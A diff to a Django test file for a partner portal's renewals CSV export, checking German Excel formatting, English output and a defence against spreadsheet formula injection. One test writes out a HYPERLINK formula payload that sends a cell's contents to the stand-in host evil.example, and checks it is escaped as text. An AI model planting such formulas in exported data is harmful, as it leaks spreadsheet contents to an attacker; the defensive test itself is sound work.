@@ -9,11 +9,12 @@ from collections.abc import Callable
 from decimal import Decimal
 
 from django.test import Client
-from django.utils import timezone
+from django.utils import timezone, translation
 
-from channeldesk.contracts.models import ContractStatus
+from channeldesk.contracts.models import ContractStatus, Customer
 from channeldesk.contracts.selectors import contracts_visible_to
 from channeldesk.portal.selectors import portal_renewals, renewal_lines
+from channeldesk.portal.views.renewals import CSV_COLUMNS
 from channeldesk.pricing.services import price_quote
 from tests.contracts.factories import contract_of
 from tests.portal.world import PortalWorld
@@ -75,19 +76,83 @@ def test_page_lists_the_next_90_days_only_and_active_ones(
     assert "€450.00" in text
 
 
-def test_csv_export_has_the_same_rows_and_amounts(
+def _download(client: Client) -> tuple[str, str]:
+    response = client.get("/portal/renewals.csv")
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    return response["Content-Disposition"], b"".join(response.streaming_content).decode("utf-8")
+
+
+def test_csv_export_in_german_is_german_excel_with_the_page_amounts_and_names(
     portal_world: PortalWorld, client_for: Callable[[str], Client]
 ) -> None:
-    response = client_for("partner_a_user").get("/portal/renewals.csv")
+    # Given a German partner user
+    client = client_for("partner_a_user")
+    client.cookies["django_language"] = "de"
 
-    body = b"".join(response.streaming_content).decode("utf-8")
-    assert response["Content-Type"].startswith("text/csv")
-    rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
-    assert [row["contract_number"] for row in rows] == ["V-A-SOON"]
-    assert rows[0]["customer_number"] == "K-A"
-    assert Decimal(rows[0]["list_amount"]) == Decimal("600.00")
-    assert Decimal(rows[0]["net_amount"]) == Decimal("450.00")
-    assert rows[0]["tier"] == "silver"
+    # When the renewals are downloaded
+    disposition, body = _download(client)
+
+    # Then it is German Excel: BOM, semicolons, German dates and decimal commas, names not codes
+    end_date = portal_world.contract_soon.end_date
+    assert disposition.startswith('attachment; filename="renewals-A-1000-')
+    assert body.startswith("\ufeff")
+    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff")), delimiter=";"))
+    with translation.override("de"):
+        assert rows[0] == [str(column.label) for column in CSV_COLUMNS]
+    assert rows[1:] == [
+        [
+            "V-A-SOON",
+            "K-A",
+            "Anton Maschinenbau AG",
+            "ENT-100",
+            "Endpoint-Schutz",
+            "12",
+            end_date.strftime("%d.%m.%Y"),
+            "600,00",
+            "Silber-Partner",
+            "25,00",
+            "450,00",
+            "EUR",
+        ]
+    ]
+
+
+def test_csv_export_in_english_is_plain_csv(
+    portal_world: PortalWorld, client_for: Callable[[str], Client]
+) -> None:
+    client = client_for("partner_a_user")
+    client.cookies["django_language"] = "en"
+
+    _, body = _download(client)
+
+    assert not body.startswith("\ufeff")
+    rows = list(csv.DictReader(io.StringIO(body)))
+    assert [row["Contract number"] for row in rows] == ["V-A-SOON"]
+    assert rows[0]["Product"] == "Endpoint Suite"
+    assert rows[0]["End date"] == portal_world.contract_soon.end_date.isoformat()
+    assert Decimal(rows[0]["List amount"]) == Decimal("600.00")
+    assert Decimal(rows[0]["Net amount"]) == Decimal("450.00")
+    assert rows[0]["Tier"] == "Silver Partner"
+
+
+def test_a_customer_name_that_is_a_formula_is_exported_as_text(
+    portal_world: PortalWorld, client_for: Callable[[str], Client]
+) -> None:
+    # Given a customer whose name (imported from the ERP) would run as a spreadsheet formula
+    Customer.objects.filter(pk=portal_world.customer_a.pk).update(
+        name='=HYPERLINK("http://evil.example/?"&A1;"Details")'
+    )
+    client = client_for("partner_a_user")
+    client.cookies["django_language"] = "de"
+
+    # When the renewals are downloaded
+    _, body = _download(client)
+
+    # Then the name is a text cell (leading apostrophe) and the amounts are still numbers
+    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff")), delimiter=";"))
+    assert rows[1][2] == '\'=HYPERLINK("http://evil.example/?"&A1;"Details")'
+    assert rows[1][7] == "600,00"
 
 
 def test_partner_b_exports_only_its_own_renewals(
